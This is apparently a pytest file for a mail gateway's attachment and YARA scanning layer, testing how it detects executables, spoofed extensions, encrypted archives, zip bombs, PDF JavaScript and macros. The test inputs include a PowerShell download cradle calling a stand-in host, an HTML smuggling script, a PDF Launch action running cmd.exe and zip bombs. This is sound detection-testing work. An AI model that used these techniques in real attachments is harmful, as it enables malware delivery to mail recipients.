"""Layer 2 (attachment policy, archives, documents, YARA) on test files built at run time: no infrastructure."""

from __future__ import annotations

import io
import struct
import tarfile
import time
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

import py7zr
import pytest

from mailgw_antivirus import archives, filetypes
from mailgw_antivirus.app import make_policy
from mailgw_antivirus.attachments import SYMBOLS, AttachmentPolicy, Layer2Result, PolicyConfig
from mailgw_antivirus.scanner import ScanResult, verdict_for
from mailgw_antivirus.settings import AntivirusSettings

TESTFILES = Path("/usr/share/clamav-testfiles")

# --- test files ------------------------------------------------------------------------------

def make_mail(body: str = "Hello,\nplease find the file attached.\n",
              attachments: tuple[tuple[str, str, bytes], ...] = ()) -> bytes:
    msg = EmailMessage()
    msg["From"] = "sender@example.org"
    msg["To"] = "rcpt@example.com"
    msg["Subject"] = "test"
    msg.set_content(body, subtype="html" if body.startswith("<html") else "plain")
    for filename, ctype, data in attachments:
        maintype, subtype = ctype.split("/", 1)
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes(policy=SMTP)



def pe() -> bytes:
    """A minimal PE: MZ header whose e_lfanew (0x3C) points at 'PE\\0\\0' and a COFF header."""
    head = bytearray(b"MZ" + b"\0" * 0x3E)
    struct.pack_into("<I", head, 0x3C, 0x40)
    return bytes(head) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102) + b"\0" * 256


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHI", 2, 0x3E, 1) + b"\0" * 200


def zip_of(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def encrypted_zip(name: str, data: bytes) -> bytes:
    """zipfile cannot write encrypted zips: set the 'encrypted' flag bit by hand (local + central header)."""
    raw = bytearray(zip_of((name, data), method=zipfile.ZIP_STORED))
    raw[6] |= 0x01  # local file header: general purpose flags at offset 6
    central = raw.find(b"PK\x01\x02")
    raw[central + 8] |= 0x01  # central directory header: flags at offset 8
    return bytes(raw)


def seven_zip(*members: tuple[str, bytes], password: str | None = None) -> bytes:
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w", password=password) as archive:
        for name, data in members:
            archive.writestr(data, name)
    return buf.getvalue()


def pdf_with(objects: bytes, compress: bool = True) -> bytes:
    body = zlib.compress(objects) if compress else objects
    flt = b"/Filter /FlateDecode " if compress else b""
    return (b"%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 " + flt + b"/Length " + str(len(body)).encode()
            + b" >>\nstream\n" + body + b"\nendstream\nendobj\n2 0 obj\n<< /Type /Catalog /Pages 3 0 R >>\nendobj\n"
            b"trailer\n<< /Root 2 0 R >>\n%%EOF\n")


def png() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0"))
            + chunk(b"IEND", b""))


def attach(*files: tuple[str, bytes], ctype: str = "application/octet-stream") -> bytes:
    return make_mail(attachments=tuple((name, ctype, data) for name, data in files))


@pytest.fixture(scope="module")
def policy() -> AttachmentPolicy:
    return make_policy(AntivirusSettings())


def symbols(result: Layer2Result) -> dict[str, str]:
    assert result.complete, result.error
    return {h.name: h.detail for h in result.hits}


# --- clean mail triggers nothing ---------------------------------------------------------------

def test_plain_ham_and_an_image_trigger_nothing(policy: AttachmentPolicy) -> None:
    assert symbols(policy.scan(make_mail())) == {}
    assert symbols(policy.scan(attach(("photo.png", png()), ctype="image/png"))) == {}
    html = make_mail(body="<html><body><p>Minutes</p><a href='https://example.org'>agenda</a></body></html>")
    assert symbols(policy.scan(html)) == {}
    docs = attach(("report.pdf", pdf_with(b"<< /Type /Page /Contents (quarterly) >>")), ("notes.txt", b"hello\n"),
                  ("data.zip", zip_of(("a.csv", b"1,2,3\n"), ("b/readme.txt", b"read me"))),
                  ("setup-1.2.tar.gz", b""))
    assert symbols(policy.scan(docs)) == {}


# --- each symbol fires and does not fire ------------------------------------------------------

def test_mime_executable_by_content(policy: AttachmentPolicy) -> None:
    for data in (pe(), elf(), b"\xcf\xfa\xed\xfe" + b"\0" * 60):
        assert "MIME_EXECUTABLE" in symbols(policy.scan(attach(("tool.bin", data))))
    # 'MZ' without a PE header, and a Java class (0xCAFEBABE with a version), are not programs to run.
    assert "MIME_EXECUTABLE" not in symbols(policy.scan(attach(("mz.dat", b"MZ" + b"\x01" * 200))))
    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x37" + b"\0" * 40
    assert "MIME_EXECUTABLE" not in symbols(policy.scan(attach(("A.class", java))))


@pytest.mark.skipif(not (TESTFILES / "clam_ISmsi_int.exe").exists(), reason="clamav-testfiles not installed")
def test_msi_by_content(policy: AttachmentPolicy) -> None:
    assert filetypes.sniff((TESTFILES / "clam.ole.doc").read_bytes()).kind == "ole"
    # clam_ISmsi_*.exe are PE installers (an MSI inside); an MSI is an OLE file with the installer CLSID.
    assert filetypes.sniff((TESTFILES / "clam_ISmsi_int.exe").read_bytes()).executable
    # Turn the OLE document into an "MSI": the root directory entry's CLSID (offset 0x50) becomes the installer's.
    ole = bytearray((TESTFILES / "clam.ole.doc").read_bytes())
    sector_size = 1 << struct.unpack_from("<H", ole, 0x1E)[0]
    directory = (struct.unpack_from("<I", ole, 0x30)[0] + 1) * sector_size
    ole[directory + 0x50: directory + 0x60] = bytes.fromhex("84100c0000000000c000000000000046")
    assert filetypes.sniff(bytes(ole)).kind == "msi"
    found = symbols(policy.scan(attach(("setup.msi", bytes(ole)))))
    assert "MSI installer" in found["MIME_EXECUTABLE"] and "MIME_BAD_EXTENSION" in found


def test_double_extension(policy: AttachmentPolicy) -> None:
    found = symbols(policy.scan(attach(("invoice.pdf.exe", pe()))))
    assert "'invoice.pdf.exe': .pdf before .exe" in found["MIME_DOUBLE_EXTENSION"]
    assert "MIME_DOUBLE_EXTENSION" in symbols(policy.scan(attach(("invoice.pdf        .exe", b"x"))))
    assert "MIME_DOUBLE_EXTENSION" in symbols(policy.scan(attach(("scan.jpg\uff0evbs", b"x"))))  # fullwidth dot
    rlo = symbols(policy.scan(attach(("invoice\u202efdp.exe", pe()))))  # shows as "invoiceexe.pdf"
    assert "bidi" in rlo["MIME_DOUBLE_EXTENSION"] and "MIME_BAD_EXTENSION" in rlo
    for fine in ("archive.tar.gz", "setup-1.2.exe", "report.final.pdf"):
        assert "MIME_DOUBLE_EXTENSION" not in symbols(policy.scan(attach((fine, b"x"))))


def test_bad_extension(policy: AttachmentPolicy) -> None:
    for name in ("run.exe", "a.SCR", "x.js", "y.vbs", "z.hta", "link.lnk", "disk.iso", "p.ps1", "c.cmd.  "):
        assert "MIME_BAD_EXTENSION" in symbols(policy.scan(attach((name, b"content")))), name
    for name in ("a.pdf", "b.docx", "c.txt", "exe", "d.exe.txt"):
        assert "MIME_BAD_EXTENSION" not in symbols(policy.scan(attach((name, b"content")))), name


def test_extension_mismatch(policy: AttachmentPolicy) -> None:
    assert "MIME_EXT_MISMATCH" in symbols(policy.scan(attach(("photo.jpg", pe()))))
    assert "MIME_EXT_MISMATCH" in symbols(policy.scan(attach(("invoice.pdf", zip_of(("a.txt", b"x"))))))
    assert "MIME_EXT_MISMATCH" in symbols(policy.scan(attach(("scan.pdf", b"<!DOCTYPE html><html><form>"))))
    # No file name, but the part claims to be an image.
    assert "MIME_EXT_MISMATCH" in symbols(policy.scan(attach(("", elf()), ctype="image/png")))
    assert "MIME_EXT_MISMATCH" not in symbols(policy.scan(attach(("photo.png", png()), ctype="image/png")))
    assert "MIME_EXT_MISMATCH" not in symbols(policy.scan(attach(("tool.exe", pe()))))
    assert "MIME_EXT_MISMATCH" not in symbols(policy.scan(attach(("report.xls", b"<html><table></table></html>"))))


def test_executable_or_script_inside_an_archive(policy: AttachmentPolicy) -> None:
    found = symbols(policy.scan(attach(("docs.zip", zip_of(("readme.txt", b"hi"), ("payload.js", b"var a=1;"))))))
    assert "docs.zip/payload.js" in found["ARCHIVE_EXECUTABLE"]
    assert "MIME_EXECUTABLE" not in found  # the attachment itself is a zip
    assert "ARCHIVE_EXECUTABLE" in symbols(policy.scan(attach(("a.zip", zip_of(("pic.dat", pe())))))), "by content"
    assert "ARCHIVE_EXECUTABLE" not in symbols(policy.scan(attach(("a.zip", zip_of(("a.txt", b"text"))))))


def test_encrypted_archives(policy: AttachmentPolicy) -> None:
    found = symbols(policy.scan(attach(("secret.zip", encrypted_zip("invoice.exe", b"x" * 100)))))
    assert "secret.zip/invoice.exe" in found["ARCHIVE_ENCRYPTED"]
    assert "ARCHIVE_EXECUTABLE" in found  # judged by name, since the content cannot be read
    assert "ARCHIVE_ENCRYPTED" in symbols(policy.scan(attach(("s.7z", seven_zip(("a.txt", b"x"), password="pw")))))
    assert "ARCHIVE_ENCRYPTED" not in symbols(policy.scan(attach(("s.7z", seven_zip(("a.txt", b"x"))))))
    assert "ARCHIVE_ENCRYPTED" not in symbols(policy.scan(attach(("s.zip", zip_of(("a.txt", b"x"))))))


def test_rar_header_encryption_flags() -> None:
    rar5 = b"Rar!\x1a\x07\x01\x00" + b"\x11\x22\x33\x44" + b"\x05" + b"\x04" + b"\0" * 20
    rar4 = b"Rar!\x1a\x07\x00" + b"\x00\x00\x73" + (0x0080).to_bytes(2, "little") + b"\x0d\x00" + b"\0" * 20
    assert archives.rar_headers_encrypted(rar5) and archives.rar_headers_encrypted(rar4)
    plain4 = b"Rar!\x1a\x07\x00" + b"\x00\x00\x73" + (0).to_bytes(2, "little") + b"\x0d\x00" + b"\0" * 20
    plain5 = b"Rar!\x1a\x07\x01\x00" + b"\x11\x22\x33\x44" + b"\x05" + b"\x01" + b"\0" * 20
    assert not archives.rar_headers_encrypted(plain4) and not archives.rar_headers_encrypted(plain5)


def test_encrypted_rar_attachment(policy: AttachmentPolicy) -> None:
    rar5 = b"Rar!\x1a\x07\x01\x00" + b"\x11\x22\x33\x44" + b"\x05" + b"\x04" + b"\0" * 20
    assert "ARCHIVE_ENCRYPTED" in symbols(policy.scan(attach(("x.rar", rar5))))


def test_office_macro_in_ooxml(policy: AttachmentPolicy) -> None:
    docm = zip_of(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"),
                  ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100))
    assert "vbaProject.bin" in symbols(policy.scan(attach(("letter.docm", docm))))["OFFICE_MACRO"]
    docx = zip_of(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"))
    assert symbols(policy.scan(attach(("letter.docx", docx)))) == {}


@pytest.mark.skipif(not (TESTFILES / "clam.ole.doc").exists(), reason="clamav-testfiles not installed")
def test_ole_document_without_macros(policy: AttachmentPolicy) -> None:
    found = symbols(policy.scan(attach(("clam.doc", (TESTFILES / "clam.ole.doc").read_bytes()))))
    assert "OFFICE_MACRO" not in found


def test_pdf_javascript(policy: AttachmentPolicy) -> None:
    js = pdf_with(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >> << /OpenAction 5 0 R >>")
    assert zlib.compress(b"/JavaScript") not in js and b"/JavaScript" not in js  # only inside the Flate stream
    found = symbols(policy.scan(attach(("form.pdf", js), ctype="application/pdf")))
    assert "JavaScript" in found["PDF_JAVASCRIPT"] and "automatic action" in found["PDF_JAVASCRIPT"]
    escaped = pdf_with(b"<< /S /J#61vaScript /JS (x) >>", compress=False)
    assert "PDF_JAVASCRIPT" in symbols(policy.scan(attach(("e.pdf", escaped))))
    launch = pdf_with(b"<< /S /Launch /F (cmd.exe) >>")
    assert "Launch action" in symbols(policy.scan(attach(("l.pdf", launch))))["PDF_JAVASCRIPT"]
    harmless = pdf_with(b"<< /OpenAction [3 0 R /Fit] /Contents (JavaScript is a word) >>")
    assert "PDF_JAVASCRIPT" not in symbols(policy.scan(attach(("ok.pdf", harmless))))
    broken = b"%PDF-1.4\nstream\n" + b"\x78\x9c garbage" + b"\nendstream\n/FlateDecode"
    assert "PDF_JAVASCRIPT" not in symbols(policy.scan(attach(("b.pdf", broken))))


# --- EICAR through the archive formats (YARA) ----------------------------------------------------

def test_eicar_in_zip_in_zip_7z_and_tgz(policy: AttachmentPolicy, eicar: bytes) -> None:
    tgz = io.BytesIO()
    with tarfile.open(fileobj=tgz, mode="w:gz") as tf:
        info = tarfile.TarInfo("docs/eicar.txt")
        info.size = len(eicar)
        tf.addfile(info, io.BytesIO(eicar))
    cases = {
        "plain.txt": eicar,
        "inner.zip": zip_of(("outer.zip", zip_of(("eicar.txt", eicar)))),
        "e.7z": seven_zip(("eicar.txt", eicar)),
        "e.tgz": tgz.getvalue(),
    }
    for name, data in cases.items():
        result = policy.scan(attach((name, data)))
        assert "YARA_EICAR_TEST_FILE" in symbols(result), name
        assert result.viruses == ("Mailgw.YARA_EICAR_TEST_FILE",)
        assert {h.name: h.score for h in result.hits}["YARA_EICAR_TEST_FILE"] == 1000.0
    assert "YARA_EICAR_TEST_FILE" not in symbols(policy.scan(attach(("half.txt", eicar[:40]))))


def test_yara_powershell_cradle_and_html_smuggling(policy: AttachmentPolicy) -> None:
    cradle = b"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')\""
    assert "YARA_POWERSHELL_DOWNLOAD_CRADLE" in symbols(policy.scan(attach(("run.txt", cradle))))
    assert "YARA_POWERSHELL_DOWNLOAD_CRADLE" not in symbols(policy.scan(make_mail(body="We use PowerShell daily.")))
    smuggling = (b"<html><script>var b=atob('TVqQ');var blob=new Blob([b],{type:'application/octet-stream'});"
                 b"var a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='invoice.iso';"
                 b"a.click();</script></html>")
    found = symbols(policy.scan(attach(("invoice.html", smuggling), ctype="text/html")))
    assert "YARA_HTML_SMUGGLING" in found
    weight = {h.name: h.score for h in policy.scan(attach(("invoice.html", smuggling), ctype="text/html")).hits}
    assert weight["YARA_HTML_SMUGGLING"] == 6.0


# --- limits and bombs ----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def zeros_zip() -> bytes:
    """200 MB of zeros deflated into one member (~200 KB)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("zeros.img", "w") as fh:
        block = b"\0" * (1024 * 1024)
        for _ in range(200):
            fh.write(block)
    return buf.getvalue()


def _claim_size(data: bytes, size: int) -> bytes:
    """Rewrite the uncompressed size the central directory declares for the first member."""
    raw = bytearray(data)
    central = raw.find(b"PK\x01\x02")
    struct.pack_into("<I", raw, central + 24, size)
    return bytes(raw)


def test_zip_bomb_by_ratio_is_bounded(policy: AttachmentPolicy, zeros_zip: bytes) -> None:
    assert len(zeros_zip) < 1024 * 1024
    # Declared honestly (200 MB): refused from the declaration, nothing unpacked.
    started = time.monotonic()
    found = symbols(policy.scan(attach(("backup.zip", zeros_zip))))
    assert "over the" in found["ARCHIVE_BOMB"]
    # Declared small (a lie): unpacked in chunks until the ratio gives it away, ~20 MB in.
    found = symbols(policy.scan(attach(("backup.zip", _claim_size(zeros_zip, 1000)))))
    assert "expands more than 100:1" in found["ARCHIVE_BOMB"]
    # Declared 4 GB: refused, no allocation.
    found = symbols(policy.scan(attach(("backup.zip", _claim_size(zeros_zip, 0xFFFF_FFF0)))))
    assert "declares 4294967280 bytes" in found["ARCHIVE_BOMB"]
    assert time.monotonic() - started < 5


def test_total_unpacked_budget(zeros_zip: bytes) -> None:
    # A ratio check too lax to notice: the message's unpack budget (here 30 MB) still stops it.
    lax = AttachmentPolicy(PolicyConfig(limits=archives.Limits(max_total_bytes=30 * 1024 * 1024, max_ratio=1e9)))
    found = symbols(lax.scan(attach(("backup.zip", _claim_size(zeros_zip, 1000)))))
    assert "more than 31457280 bytes unpacked" in found["ARCHIVE_BOMB"]


def test_nested_ten_deep_is_too_deep(policy: AttachmentPolicy, eicar: bytes) -> None:
    data = b"deep inside"
    for level in range(10):
        data = zip_of((f"level{level}.zip" if level else "core.txt", data))
    found = symbols(policy.scan(attach(("russian-doll.zip", data))))
    assert "more than 5 levels" in found["ARCHIVE_TOO_DEEP"]
    shallow = zip_of(("l1.zip", zip_of(("l2.zip", zip_of(("e.txt", eicar))))))
    found = symbols(policy.scan(attach(("three.zip", shallow))))
    assert "ARCHIVE_TOO_DEEP" not in found and "YARA_EICAR_TEST_FILE" in found


def test_too_many_members(policy: AttachmentPolicy) -> None:
    many = zip_of(*((f"f{i}.txt", b"") for i in range(20_000)), method=zipfile.ZIP_STORED)
    started = time.monotonic()
    found = symbols(policy.scan(attach(("many.zip", many))))
    assert "more than 10000 archive members" in found["ARCHIVE_TOO_MANY_FILES"]
    assert time.monotonic() - started < 5
    assert "ARCHIVE_TOO_MANY_FILES" not in symbols(policy.scan(attach(("few.zip", zip_of(("a", b"1"), ("b", b"2"))))))


def test_corrupt_and_truncated_archives_do_not_crash(policy: AttachmentPolicy, eicar: bytes) -> None:
    good_zip = zip_of(("a.txt", b"hello " * 1000))
    tgz = io.BytesIO()
    with tarfile.open(fileobj=tgz, mode="w:gz") as tf:
        info = tarfile.TarInfo("a.txt")
        info.size = 6000
        tf.addfile(info, io.BytesIO(b"hello " * 1000))
    samples = {
        "half.zip": good_zip[: len(good_zip) // 2],
        "head.zip": b"PK\x03\x04" + b"\xff" * 100,
        "half.tgz": tgz.getvalue()[:60],
        "half.7z": seven_zip(("a.txt", b"hello " * 1000))[:50],
        "junk.rar": b"Rar!\x1a\x07\x00" + b"\x13" * 64,
        "junk.gz": b"\x1f\x8b\x08\x00" + b"\x00" * 30,
        "junk.bz2": b"BZh9" + b"\x00" * 30,
        "junk.tar": b"\0" * 257 + b"ustar" + b"\xff" * 300,
    }
    for name, data in samples.items():
        result = policy.scan(attach((name, data)))
        assert result.complete and not result.error, (name, result)
    assert "ARCHIVE_CORRUPT" in symbols(policy.scan(attach(("head.zip", samples["head.zip"]))))


def test_time_budget_gives_a_symbol_not_a_hang(eicar: bytes) -> None:
    hurried = AttachmentPolicy(PolicyConfig(timeout_s=0.0))
    result = hurried.scan(attach(("a.zip", zip_of(("e.txt", eicar)))))
    assert "SCAN_TIMEOUT" in {h.name for h in result.hits} and not result.complete


async def test_scan_async_runs_in_a_thread(policy: AttachmentPolicy) -> None:
    result = await policy.scan_async(attach(("run.exe", pe())))
    assert {"MIME_EXECUTABLE", "MIME_BAD_EXTENSION"} <= {h.name for h in result.hits}


# --- configuration and the combined verdict ------------------------------------------------------

def test_settings_make_a_symbol_a_virus_or_change_its_score() -> None:
    strict = make_policy(AntivirusSettings(virus_symbols=["MIME_EXECUTABLE"], symbol_scores={"MIME_BAD_EXTENSION": 9}))
    result = strict.scan(attach(("run.exe", pe())))
    scores = {h.name: h.score for h in result.hits}
    assert result.viruses == ("Mailgw.MIME_EXECUTABLE",)
    assert scores == {"MIME_EXECUTABLE": 1000.0, "MIME_BAD_EXTENSION": 9.0}
    assert {h.name: h.score for h in make_policy(AntivirusSettings()).scan(attach(("run.exe", pe()))).hits} == {
        "MIME_EXECUTABLE": SYMBOLS["MIME_EXECUTABLE"].score, "MIME_BAD_EXTENSION": SYMBOLS["MIME_BAD_EXTENSION"].score}


def test_yara_dirs_setting(tmp_path: Path) -> None:
    (tmp_path / "local.yar").write_text('rule Local_Marker { meta: score = "2.5" strings: $a = "zz-marker-zz" '
                                        "condition: $a }\n")
    custom = make_policy(AntivirusSettings(yara_dirs=[str(tmp_path)]))
    found = {h.name: h.score for h in custom.scan(make_mail(body="see zz-marker-zz here")).hits}
    assert found == {"YARA_LOCAL_MARKER": 2.5}
    assert custom.fingerprint() != make_policy(AntivirusSettings()).fingerprint()
    with pytest.raises(FileNotFoundError):
        make_policy(AntivirusSettings(yara_dirs=[str(tmp_path / "missing")]))


def test_one_verdict_for_both_layers(policy: AttachmentPolicy, eicar: bytes,
                                     mail: Callable[..., bytes]) -> None:
    layer2 = policy.scan(attach(("invoice.pdf.exe", pe())))
    verdict = verdict_for("m1", ScanResult(viruses=("Win.Test.A",)), 1.0, layer2)
    assert verdict.symbols[0].name == "AV_VIRUS"
    assert {"MIME_DOUBLE_EXTENSION", "MIME_EXECUTABLE"} <= {h.name for h in verdict.symbols}
    assert verdict.viruses == ["Win.Test.A"] and not verdict.failed
    failed = verdict_for("m2", ScanResult(error="clamd down"), 1.0, policy.scan(attach(("e.txt", eicar))))
    assert failed.failed and failed.viruses == ["Mailgw.YARA_EICAR_TEST_FILE"]
    assert [h.name for h in failed.symbols] == ["AV_FAIL", "YARA_EICAR_TEST_FILE"]


def test_detected_content_types(eicar: bytes) -> None:
    """The MIME types that `Verdict.attachments` reports by content."""
    from mailgw_antivirus.filetypes import sniff
    assert sniff(pe()).content_type == "application/vnd.microsoft.portable-executable"
    assert sniff(elf()).content_type == "application/x-executable"
    assert sniff(zip_of(("a.txt", b"x"))).content_type == "application/zip"
    assert sniff(seven_zip(("a.txt", b"x"))).content_type == "application/x-7z-compressed"
    assert sniff(png()).content_type == "image/png"
    assert sniff(pdf_with(b"1 0 obj <<>> endobj")).content_type == "application/pdf"
    assert sniff(eicar).content_type == "text/plain"
    assert sniff(b"").content_type == "application/octet-stream"
    assert sniff(bytes(range(256)) * 4).content_type == "application/octet-stream"
